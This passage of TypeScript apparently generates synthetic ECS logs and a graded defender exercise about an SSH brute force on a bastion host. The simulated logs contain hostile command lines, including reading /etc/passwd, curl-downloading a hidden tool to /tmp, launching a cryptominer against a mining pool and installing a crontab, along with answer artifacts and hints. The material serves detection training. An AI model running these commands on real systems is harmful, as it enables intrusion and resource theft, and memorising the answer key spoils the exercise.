    'admin',
    'ubuntu',
    'deploy',
    'test',
    'oracle',
    'postgres',
    'git',
    'jenkins',
    'ftpuser',
    'guest',
    'support',
  ];
  let ms = at(2, 13, 5);
  for (let i = 0; i < 360; i++) {
    const user = wordlist[i % wordlist.length] as string;
    const known = user === 'root' || user === SSH_USER || user === 'ubuntu';
    access.push(
      sshd(
        r,
        ms,
        'failure',
        user,
        ATTACKER,
        `Failed password for ${known ? '' : 'invalid user '}${user} from ${ATTACKER} port {port} ssh2`,
      ),
    );
    ms += r.int(300, 1_200);
  }
  access.push(
    sshd(
      r,
      at(2, 17, 44),
      'success',
      SSH_USER,
      ATTACKER,
      `Accepted password for ${SSH_USER} from ${ATTACKER} port {port} ssh2`,
    ),
  );
  access.push(
    doc(at(2, 17, 44), {
      event: { category: ['session'], action: 'session_opened', outcome: 'success', dataset: 'system.auth' },
      user: { name: SSH_USER },
      host: { name: SSH_HOST },
      source: { ip: ATTACKER },
      process: { name: 'sshd', pid: 31877 },
      message: `pam_unix(sshd:session): session opened for user ${SSH_USER}(uid=1001) by (uid=0)`,
    }),
  );

  const post: Doc[] = [];
  const postStart = at(2, 18, 0);
  for (let i = 0; i < 260; i++) {
    const t = postStart + r.int(0, 30 * MINUTE);
    if (r.next() < 0.5) {
      post.push(
        doc(t, {
          event: { category: ['process'], action: 'cron_run', outcome: 'success', dataset: 'system.syslog' },
          user: { name: 'root' },
          host: { name: SSH_HOST },
          process: { name: 'CRON', pid: r.int(20000, 40000) },
          message: `(root) CMD (${r.pick(['/usr/lib/sysstat/sa1 1 1', 'run-parts /etc/cron.hourly'])})`,
        }),
      );
    } else {
      const user = r.pick(ops);
      const ip = `10.40.0.${r.int(10, 60)}`;
      post.push(
        sshd(
          r,
          t,
          'success',
          user,
          ip,
          `Accepted publickey for ${user} from ${ip} port {port} ssh2: ED25519 SHA256:${r.hex(8)}`,
        ),
      );
    }
  }
  const command = (t: number, name: string, args: string, extra: Record<string, unknown> = {}) =>
    post.push(
      doc(t, {
        event: { category: ['process'], action: 'exec', outcome: 'success', dataset: 'auditd.log' },
        user: { name: SSH_USER },
        host: { name: SSH_HOST },
        source: { ip: ATTACKER },
        process: {
          name,
          pid: r.int(31878, 32999),
          command_line: `${name} ${args}`.trim(),
          parent: { name: 'bash' },
        },
        message: `${SSH_USER} ran: ${name} ${args}`.trim(),
        ...extra,
      }),
    );
  command(at(2, 18, 12), 'id', '');
  command(at(2, 18, 15), 'uname', '-a');
  command(at(2, 18, 21), 'sudo', '-l');
  command(at(2, 18, 40), 'cat', '/etc/passwd');
  command(at(2, 19, 3), 'curl', `-fsSL ${TOOL_URL} -o /tmp/.kworkerd`, { url: { full: TOOL_URL } });
  post.push(
    doc(at(2, 19, 4), {
      event: { category: ['file'], action: 'creation', outcome: 'success', dataset: 'auditd.log' },
      user: { name: SSH_USER },
      host: { name: SSH_HOST },
      file: { path: '/tmp/.kworkerd', size: 2_874_112, hash: { sha256: toolHash } },
      message: `file created: /tmp/.kworkerd sha256=${toolHash}`,
    }),
  );
  command(at(2, 19, 9), 'chmod', '+x /tmp/.kworkerd');
  command(at(2, 19, 11), '/tmp/.kworkerd', '-o pool.hashvault.example:443 --background');
  command(at(2, 19, 40), 'crontab', '-l');
  command(at(2, 19, 52), 'crontab', '/tmp/.c');
  for (let t = at(2, 19, 12); t < at(2, 48, 0); t += 30_000 + r.int(-3_000, 3_000)) {
    post.push(
      doc(t, {
        event: {
          category: ['network'],
          action: 'connection_attempted',
          outcome: 'success',
          dataset: 'auditd.log',
        },
        user: { name: SSH_USER },
        host: { name: SSH_HOST },
        process: { name: '.kworkerd', pid: 32011 },
        destination: { ip: '192.0.2.88', port: 443, domain: 'pool.hashvault.example' },
        message: `.kworkerd connect 192.0.2.88:443`,
      }),
    );
  }

  const files = {
    access: bundleFilePath('access', 'ecs', 'bastion-auth.ndjson'),
    post: bundleFilePath('post-compromise', 'ecs', 'bastion-activity.ndjson'),
  };
  const archives = new Map([
    [files.access, logText(access)],
    [files.post, logText(post)],
  ]);
  const bundle: ExerciseBundle = {
    schema_version: 1,
    title: 'SSH brute force on the bastion host',
    description:
      'Night shift: the bastion host bastion-01 is slow. Its authentication and audit logs are in ECS.',
    destinations: [],
    convert_to_leef: false,
    deadlock_override: false,
    tags: ['ssh', 'brute-force', 'T1110.001', 'T1078', 'T1105', 'T1496'],
    steps: [
      {
        title: 'Spot the brute force',
        body: [
          '## Who is knocking?',
          '',
          'Group the `ssh_login` events with `event.outcome: failure` by `source.ip`. Internet scanners',
          'try a few names each; one address tries a long word list. Report that **IP address**.',
        ].join('\n'),
      },
      {
        title: 'Find the way in',
        body: [
          '## Did it work?',
          '',
          'Look for a **successful** login from the same address right after the burst and report the',
          '**account** it used.',
        ].join('\n'),
      },
      {
        title: 'What did the intruder do?',
        body: [
          '## Post-compromise',
          '',
          'Five minutes in, the audit logs of the session arrive. Follow the commands of the account:',
          "report the **URL** of the tool it downloaded and the tool's **SHA-256**.",
        ].join('\n'),
      },
    ],
    artifacts: [
      {
        ref: 'attacker-ip',
        name: 'Attacker IP',
        kind: 'ip',
        values: [ATTACKER],
        match: 'normalized',
        points: 10,
        section: 'access',
        hint: 'One source.ip has hundreds of failures within five minutes.',
        hint_penalty: 3,
      },
      {
        ref: 'compromised-user',
        name: 'Compromised account',
        kind: 'user',
        values: [SSH_USER],
        match: 'case_insensitive',
        points: 15,
        section: 'access',
      },
      {
        ref: 'tool-url',
        name: 'Download URL',
        kind: 'url',
        values: [TOOL_URL],
        match: 'normalized',
        points: 10,
        section: 'post-compromise',
        hint: 'Look at process.command_line of curl or wget.',
        hint_penalty: 4,
      },
      {
        ref: 'tool-hash',
        name: 'Tool SHA-256',
        kind: 'hash',
        values: [toolHash],
        match: 'normalized',
        points: 15,
        section: 'post-compromise',
      },
    ],
    sections: [
      {
        ref: 'access',
        name: 'Initial access: SSH authentication',
        position: 1,
        release: null,
        archives: [{ format: 'ecs', file: files.access, filename: 'bastion-auth.ndjson' }],
      },
      {
        ref: 'post-compromise',
        name: 'Post-compromise activity',
        position: 2,
        release: { condition: 'delay_only', delay_minutes: 5, artifacts: [], gate_mode: 'all' },
        archives: [{ format: 'ecs', file: files.post, filename: 'bastion-activity.ndjson' }],
      },
    ],
    archives: [],
  };
  return { bundle, archives };
}

if (process.argv[1] !== undefined && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const out = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../examples/exercises');
  await writeExampleExercises(out);
  console.log(`wrote ${EXAMPLE_EXERCISES.join(', ')} to ${out}`);
}
